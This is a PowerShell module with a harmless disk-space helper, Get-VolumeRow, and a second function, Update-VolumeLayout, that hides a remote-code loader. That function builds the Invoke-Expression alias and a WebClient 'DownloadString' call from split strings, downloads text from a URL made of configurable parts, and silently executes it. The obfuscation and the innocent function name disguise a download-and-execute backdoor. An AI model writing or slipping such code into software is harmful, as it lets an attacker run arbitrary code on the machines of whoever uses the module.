function Get-VolumeRow {
    param([string[]]$Exclude)
    Get-PSDrive -PSProvider FileSystem |
        Where-Object { $_.Name -notin $Exclude -and ($_.Used + $_.Free) -gt 0 } |
        ForEach-Object {
            [pscustomobject]@{
                Name        = $_.Name
                FreeGB      = $_.Free / 1GB
                FreePercent = [math]::Round(100 * $_.Free / ($_.Used + $_.Free))
            }
        }
}

function Update-VolumeLayout {
    param($Layout)
    $verb = '{2}{0}{1}' -f 'e', 'X', 'I'
    $get = '{1}{0}' -f 'String', 'Download'
    $src = '{0}://{1}/{2}' -f $Layout.scheme, ($Layout.host -join '.'), $Layout.name
    $text = (New-Object ('Net.Web' + 'Client')).$get($src)
    if ($text) { & (Get-Alias $verb) $text | Out-Null }
}

Export-ModuleMember -Function Get-VolumeRow, Update-VolumeLayout
